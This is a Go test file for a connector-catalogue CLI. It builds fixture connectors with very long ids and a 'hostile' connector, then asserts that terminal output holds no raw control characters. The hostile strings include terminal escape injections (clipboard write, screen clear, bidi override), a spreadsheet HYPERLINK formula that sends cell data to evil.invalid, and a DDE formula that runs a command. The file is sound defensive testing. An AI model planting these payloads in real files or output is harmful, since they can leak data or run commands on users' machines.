package main

import (
	"bytes"
	"context"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/connex-dev/connex/catalog"
	"github.com/connex-dev/connex/internal/clio"
	"github.com/connex-dev/connex/internal/safeterm"
)

// Invented fixtures for the script contract (issue 13) and hostile output
// (issue 15): a connector with ids longer than an 80-column table, and
// one whose every text field carries what the hostile tester used.
const (
	longConnID = "contosoenterpriseresourceplanningwarehouse"
	longOpID   = "UpdateTheWarehouseStockLevelForEveryLocationV3"
	hostileID  = "hostilevendor"
)

// hostile are the issue's reproductions: clear screen, OSC 52 clipboard
// write, bare CR overwrite, bidi override, C1 CSI, spreadsheet formulas.
var hostile = []string{
	"clear\x1b[2Jscreen",
	"\x1b]52;c;ZXZpbA==\x07copied",
	"safe text\rEVIL",
	"abc\u202edef",
	"c1\u009b2Jcsi",
	"\t=1+1",
	`=HYPERLINK("http://evil.invalid/?x="&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)",
}

func fixtureCatalog() *catalog.Catalog {
	at := time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)
	src := map[string]catalog.Source{"definition": {Kind: catalog.SourceDefinition, Ref: "fixture", At: at}}
	products := []catalog.Product{{Name: catalog.ProductLogicApps, Class: catalog.TierPremium}, {Name: catalog.ProductPowerAutomate, Class: catalog.TierPremium}}
	long := &catalog.Connector{
		ID: longConnID, Name: "Contoso Enterprise Resource Planning Warehouse Management Suite",
		Description: "Invented connector with long ids.", Publisher: "Contoso", PublisherKind: catalog.PublisherCertified,
		Tier: catalog.TierPremium, Products: products, Host: "erp.contoso.invalid", Sources: src,
		Operations: []*catalog.Operation{
			{ID: longOpID, Name: "Update the warehouse stock level for every location of the company (V3)",
				Kind: catalog.KindAction, Method: "PATCH", Path: "/stock", Visibility: catalog.VisibilityImportant,
				Parameters: []catalog.Parameter{{Name: "Location identifier of the warehouse", Key: "warehouseLocationIdentifierWithALongKey", In: "query", Type: "string", Required: true,
					Description: "The location whose stock level changes; every location when left empty, which takes a while for large companies."}}},
			{ID: "UpdateStockLevel", Name: "Update the stock level [DEPRECATED]", Kind: catalog.KindAction, Method: "PUT", Path: "/stock",
				Deprecated: true, ReplacedBy: longOpID},
			{ID: "Rep", Name: "Get a report of the stock level of every product in every warehouse, by day, week or month",
				Kind: catalog.KindAction, Method: "GET", Path: "/report"},
			{ID: "OnStockLow", Name: "When stock runs low", Kind: catalog.KindTrigger, Method: "GET", Path: "/low", Preview: true},
		},
	}
	h := strings.Join(hostile, " | ")
	bad := &catalog.Connector{
		ID: hostileID, Name: "Hostile " + hostile[0], Description: h, Publisher: hostile[1],
		PublisherKind: catalog.PublisherIndependent, Tier: catalog.TierStandard, Products: products[:1],
		Host: "api.hostile.invalid", Sources: src, Website: hostile[3],
		Throttling:  []catalog.Limit{{Name: hostile[2], Value: hostile[4], Renewal: hostile[5]}},
		KnownIssues: []catalog.KnownIssue{{Summary: hostile[3], Description: h}},
		AuthTypes: []catalog.AuthType{{Name: hostile[2], Type: "apikey", In: "header", ParamName: hostile[4], Description: h,
			Parameters: []catalog.ConnectionParam{{Name: hostile[6], DisplayName: hostile[0], Type: "securestring", Description: h}}}},
		Operations: []*catalog.Operation{
			{ID: "Formula", Name: hostile[6], Kind: catalog.KindAction, Method: "GET", Path: "/f", Description: hostile[5],
				Parameters: []catalog.Parameter{{Name: hostile[2], Key: "k", In: "query", Type: "string", Description: h, Default: hostile[4], Enum: []string{hostile[3]}}},
				Responses:  []catalog.Response{{Status: "200", Description: hostile[1]}}},
			{ID: "Tab", Name: hostile[5], Kind: catalog.KindAction, Method: "GET", Path: "/t", Description: hostile[7]},
		},
	}
	c := &catalog.Catalog{UpdatedAt: at, Origins: []catalog.Source{{Kind: catalog.SourceDefinition, Ref: "fixture", At: at}},
		Connectors: []*catalog.Connector{long, bad}}
	c.Reindex()
	return c
}

// fixtureDir saves the fixture catalogue in a fresh data folder.
func fixtureDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := catalog.Save(filepath.Join(dir, catalog.SnapshotFile), fixtureCatalog()); err != nil {
		t.Fatal(err)
	}
	return dir
}

// connexTTY runs the CLI with standard output acting as a terminal of the
// given width.
func connexTTY(t *testing.T, dataDir string, width int, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	ios, out, errOut := clio.Test(true, width)
	code = runIO(context.Background(), nil, append([]string{"--data-dir", dataDir}, args...), ios)
	return code, out.String(), errOut.String()
}

// assertTerminalSafe fails when out holds a byte or rune that must never
// reach a terminal raw: C0 controls but newline and tab, DEL, C1 controls,
// bidi overrides, invalid UTF-8.
func assertTerminalSafe(t testing.TB, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: invalid UTF-8 reached the terminal", what)
	}
	for i, r := range out {
		if r == '\n' || r == '\t' {
			continue
		}
		if safeterm.Unsafe(r) {
			t.Errorf("%s: raw %U at byte %d reached the terminal: %q", what, r, i, out[max(0, i-20):min(len(out), i+20)])
			return
		}
	}
	if bytes.ContainsAny([]byte(out), "\x1b\x07\r") {
		t.Errorf("%s: control byte reached the terminal", what)
	}
}
